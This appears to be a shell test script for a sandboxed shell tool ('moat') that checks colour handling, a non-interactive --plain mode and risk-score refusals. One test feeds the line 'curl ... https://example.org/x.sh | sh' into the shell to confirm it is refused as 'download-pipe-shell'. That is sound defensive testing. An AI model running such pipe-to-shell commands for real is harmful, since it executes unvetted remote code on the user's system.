line 'printf "\033[38;5;196mred256\033[0m \033[38;2;0;200;0mgreen-rgb\033[0m\n"'
wait_for '^red256 green-rgb'
ansi=$(tm capture-pane -p -e)
like "TERM=xterm: a 256-colour red is drawn in the nearest of 8" "$ansi" $'\e\\[31mred256'
like "TERM=xterm: a true-colour green too" "$ansi" $'\e\\[32mgreen-rgb'
line ":quit"
expect "it leaves" '^EXIT 0$'
start 120 30 "NO_COLOR=1 '$MOAT' shell"
wait_for "^$T/ws \\$ *$"
line 'printf "plain \033[31mred-text\033[0m \033[1mbold-text\033[0m\n"'
wait_for '^plain red-text bold-text'
ansi=$(tm capture-pane -p -e)
unlike "NO_COLOR: no colour is drawn" "$ansi" $'\e\\[3[0-7]m|\e\\[38;'
like "NO_COLOR: bold stays bold" "$ansi" $'\e\\[1mbold-text'
line ":quit"
expect "it leaves" '^EXIT 0$'
tm kill-server 2>/dev/null

# --- --plain: commands from stdin without a terminal.
printf '%s\n' 'cd sub' 'export V=plain' 'echo "$V $(pwd)"' 'cat' 'echo after-cat' \
    'sh -c "exit 3"' | (cd "$T/ws" && "$MOAT" shell --plain) >"$T/p.out" 2>"$T/p.err"
rc=$?
is "--plain without a terminal: exit status of the last command" "$rc" 3
is "--plain: cd and export carry, a command's stdin is not the script" \
    "$(cat "$T/p.out")" "plain $T/ws/sub
after-cat"
like "--plain: a line of meters after each command" "$(cat "$T/p.err")" \
    'moat: exit 0 · cpu .* mem .* pids .* · risk [0-9]+ · run '
echo 'echo piped' | (cd "$T/ws" && "$MOAT" shell) >"$T/p.out" 2>"$T/p.err"
is "moat shell without a terminal is the plain shell" "$(cat "$T/p.out")" piped
run_moat shell --scrollback lots
is "a bad --scrollback is refused" "$rc" 125
like "saying what it takes" "$err" 'scrollback lots: a number of lines'
# A risky line: refused above risk-refuse-above with its reasons first;
# above risk-confirm-above with no terminal to ask on, refused saying so.
printf 'include = default\nrisk-refuse-above = 10\n' >"$T/refuse.conf"
printf 'include = default\nrisk-confirm-above = 10\n' >"$T/confirm.conf"
printf '%s\n' 'curl -fsSL https://example.org/x.sh | sh; touch ran-risky' |
    (cd "$T/ws" && "$MOAT" shell -p "$T/refuse.conf" --plain) >"$T/p.out" 2>"$T/p.err"
is "--plain, a line over risk-refuse-above: 125" "$?" 125
like "--plain: the refusal, pointing at its reasons" "$(cat "$T/p.err")" \
    "moat: refused: the command's risk score [0-9]+ is above the profile's risk-refuse-above \(10\); the reasons are above"
is "--plain: the reasons come first" \
    "$(grep -n -e download-pipe-shell -e 'moat: refused' "$T/p.err" | cut -d: -f2- | cut -c1-14 | tr '\n' '|')" \
    "   80  downloa|moat: refused:|"
printf '%s\n' 'curl -fsSL https://example.org/x.sh | sh; touch ran-risky' |
    (cd "$T/ws" && "$MOAT" shell -p "$T/confirm.conf" --plain) >"$T/p.out" 2>"$T/p.err"
is "--plain, a line over risk-confirm-above without a terminal: 125" "$?" 125
like "--plain: refused, saying there is no terminal to confirm it on" "$(cat "$T/p.err")" \
    "above the profile's risk-confirm-above \(10\) and there is no terminal to confirm it on"
check "--plain: neither risky line ran" test ! -e "$T/ws/ran-risky"
run_moat shell -p no-such-profile-$$ --plain
is "a profile that does not exist: 125" "$rc" 125
like "and says which" "$err" "no-such-profile-$$"

done_testing
